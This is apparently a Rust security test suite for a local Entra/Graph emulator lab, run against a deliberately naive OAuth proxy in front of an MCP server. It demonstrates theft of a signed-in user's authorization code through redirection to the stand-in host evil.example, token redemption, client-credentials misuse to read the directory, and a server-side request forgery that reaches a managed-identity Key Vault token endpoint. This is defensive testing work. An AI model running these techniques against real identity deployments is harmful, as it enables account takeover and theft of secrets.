//! These servers with the lab's Entra and Graph behind them.

use std::collections::BTreeMap;
use std::sync::Arc;

use doorward_emulator::{Clock, Emulator, MintRequest, Options, Running, Seed};
use serde_json::{Value, json};

use crate::naive::{self, Naive};
use crate::outbound::{Heard, Outbound};
use crate::protected;
use crate::sample::graph;
use crate::testing::{post, send};

const DOOR: &str = "d0012000-0000-4000-8000-0000000000d1";

async fn lab() -> Running {
    let options = Options {
        seed: Seed::contoso().unwrap(),
        listen: ([127, 0, 0, 1], 0).into(),
        data_dir: None,
        clock: Clock::system(),
    };
    Emulator::start(options).await.unwrap()
}

/// A person's browser at Entra, and at plain loopback.
struct Browser {
    outbound: Outbound,
    cookie: String,
}

impl Browser {
    fn new(lab: &Running) -> Self {
        Self { outbound: Outbound::new(&lab.ca_pem).unwrap(), cookie: String::new() }
    }

    async fn go(&mut self, verb: &str, url: &str, body: String) -> Heard {
        let cookie = self.cookie.clone();
        let headers = [("cookie", cookie.as_str()), ("content-type", "application/x-www-form-urlencoded")];
        let heard = self.outbound.send(verb, url, &headers, body).await.unwrap();
        if let Some(set) = heard.headers.get("set-cookie") {
            set.to_str().unwrap().split(';').next().unwrap().clone_into(&mut self.cookie);
        }
        heard
    }

    async fn follow(&mut self, url: &str) -> String {
        let heard = self.go("GET", url, String::new()).await;
        heard.headers["location"].to_str().unwrap_or_else(|_| panic!("{heard:?}")).to_owned()
    }

    /// Signs Alice in on the page of an authorize URL, and returns where Entra sends her.
    async fn sign_in(&mut self, lab: &Running, url: &str) -> String {
        let page = self.go("GET", url, String::new()).await;
        let page = String::from_utf8(page.body.to_vec()).unwrap();
        let visit = page.split("name=\"visit\" value=\"").nth(1).unwrap().split('"').next().unwrap();
        let body = naive::form::write(&[
            ("visit", visit),
            ("action", "sign-in"),
            ("username", "alice@contoso.onmicrosoft.com"),
            ("password", "correct-horse"),
        ]);
        let heard = self.go("POST", &format!("{}/login", lab.authority), body).await;
        heard.headers["location"].to_str().unwrap().to_owned()
    }
}

async fn naive_door(lab: &Running, upstream: String) -> Naive {
    let options = naive::Options {
        authority: lab.authority.clone(),
        tenant: String::from("c0175050-0000-4000-8000-000000000001"),
        client_id: DOOR.to_owned(),
        client_secret: String::from("door-secret-for-the-lab"),
        ca_pem: lab.ca_pem.clone(),
        upstream,
        consent_page: false,
    };
    naive::start(options).await.unwrap()
}

async fn authorize_url(naive: &Naive, redirect: &str) -> String {
    let body = json!({ "redirect_uris": [redirect], "client_name": "x" }).to_string();
    let client = post(&format!("{}/register", naive.origin()), &[], &body).await.json()["client_id"].clone();
    let asked = [("client_id", client.as_str().unwrap()), ("redirect_uri", redirect)];
    format!("{}/authorize?{}", naive.origin(), naive::form::write(&asked))
}

// control-off: REM-06: behind a naive door a stranger's client takes a person's code without a page, and gets Entra's own token
#[tokio::test]
async fn a_stranger_takes_the_code_of_whoever_is_signed_in() {
    let lab = lab().await;
    let upstream = protected::start(protected::Options::default()).await.unwrap();
    let naive = naive_door(&lab, upstream.server.url()).await;
    let mut alice = Browser::new(&lab);
    let own = authorize_url(&naive, "http://127.0.0.1:1/cb").await;
    let entra = alice.follow(&own).await;
    let back = alice.sign_in(&lab, &entra).await;
    assert!(alice.follow(&back).await.starts_with("http://127.0.0.1:1/cb?code="));

    // She opens a link. No page is shown; each step is a redirect, and the code ends at the stranger's.
    let link = authorize_url(&naive, "https://evil.example/take").await;
    let entra = alice.follow(&link).await;
    let back = alice.follow(&entra).await;
    let taken = alice.follow(&back).await;
    let code = taken.strip_prefix("https://evil.example/take?code=").unwrap();
    let redeem = naive::form::write(&[("grant_type", "authorization_code"), ("code", code)]);
    let tokens = post(&format!("{}/token", naive.origin()), &[], &redeem).await.json();
    let token = tokens["access_token"].as_str().unwrap();
    let bearer = format!("Bearer {token}");
    let hello = r#"{"jsonrpc":"2.0","id":0,"method":"initialize","params":{"protocolVersion":"2025-11-25","capabilities":{},"clientInfo":{"name":"t","version":"1"}}}"#;
    assert_eq!(
        post(&format!("{}/mcp", naive.origin()), &[("authorization", &bearer)], hello).await.status,
        200
    );
    assert_eq!(upstream.bearers(), [token], "and the token goes on to the server behind");

    let renew = naive::form::write(&[
        ("grant_type", "refresh_token"),
        ("refresh_token", tokens["refresh_token"].as_str().unwrap()),
    ]);
    assert_eq!(post(&format!("{}/token", naive.origin()), &[], &renew).await.status, 200);
    let mint = naive::form::write(&[
        ("grant_type", "client_credentials"),
        ("scope", "https://graph.microsoft.com/.default"),
    ]);
    let minted = post(&format!("{}/token", naive.origin()), &[], &mint).await.json();
    let users = format!("{}/v1.0/users/alice@contoso.onmicrosoft.com/getMemberObjects", lab.graph);
    let bearer = format!("Bearer {}", minted["access_token"].as_str().unwrap());
    let headers = [("authorization", bearer.as_str()), ("content-type", "application/json")];
    let outbound = Outbound::new(&lab.ca_pem).unwrap();
    let groups = outbound.send("POST", &users, &headers, r#"{"securityEnabledOnly":true}"#).await.unwrap();
    assert_eq!(groups.status, 200, "a stranger reads the directory with the door's secret");
}

#[tokio::test]
async fn a_document_is_fetched_from_wherever_it_leads() {
    let lab = lab().await;
    let naive = naive_door(&lab, String::from("http://127.0.0.1:1/mcp")).await;
    let inside = format!(
        "{}/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://vault.azure.net",
        lab.identity
    );
    let away = doorward_emulator::Document::redirect(inside);
    let url = lab.control().put_document("client.json", away);
    let asked = naive::form::write(&[("client_id", &url), ("redirect_uri", "https://evil.example/")]);
    let _refused = send("GET", &format!("{}/authorize?{asked}", naive.origin()), &[], "").await;
    let reached = lab.control().transcript();
    assert!(reached.iter().any(|it| it.service == "identity" && it.query.contains("vault.azure.net")));
}

#[tokio::test]
async fn the_tool_tells_people_apart_by_the_token_the_door_sends() {
    let lab = lab().await;
    let options = graph::Options {
        base: lab.graph.clone(),
        ca_pem: lab.ca_pem.clone(),
        time: Arc::new(graph::SystemTime),
        limits: graph::Limits::default(),
        identity: None,
    };
    let server =
        protected::start(protected::Options { graph: Some(options), ..Default::default() }).await.unwrap();
    let url = server.server.url();
    let mint =
        |user: &str, resource: &str| lab.control().mint(&MintRequest::user(user).resource(resource)).unwrap();
    let mut said: BTreeMap<&str, Value> = BTreeMap::new();
    for (who, token) in [
        ("alice", mint("alice", "graph")),
        ("grace", mint("grace", "graph")),
        ("a token for the door", mint("bob", "door")),
    ] {
        let modern = json!({"jsonrpc": "2.0", "id": 1, "method": "tools/call", "params": {
            "name": "getUserDetails", "arguments": {},
            "_meta": {"io.modelcontextprotocol/protocolVersion": "2026-07-28", "io.modelcontextprotocol/clientCapabilities": {}},
        }});
        let bearer = format!("Bearer {token}");
        let headers = [
            ("authorization", bearer.as_str()),
            ("mcp-protocol-version", "2026-07-28"),
            ("mcp-method", "tools/call"),
            ("mcp-name", "getUserDetails"),
        ];
        said.insert(who, post(&url, &headers, &modern.to_string()).await.json()["result"].clone());
    }
    assert_eq!(said["alice"]["structuredContent"]["mail"], "alice@contoso.example");
    assert_eq!(
        said["grace"]["structuredContent"],
        json!({
            "displayName": "Grace Green", "mail": null, "userPrincipalName": "grace@contoso.onmicrosoft.com",
        })
    );
    assert_eq!(said["a token for the door"]["isError"], true);
}
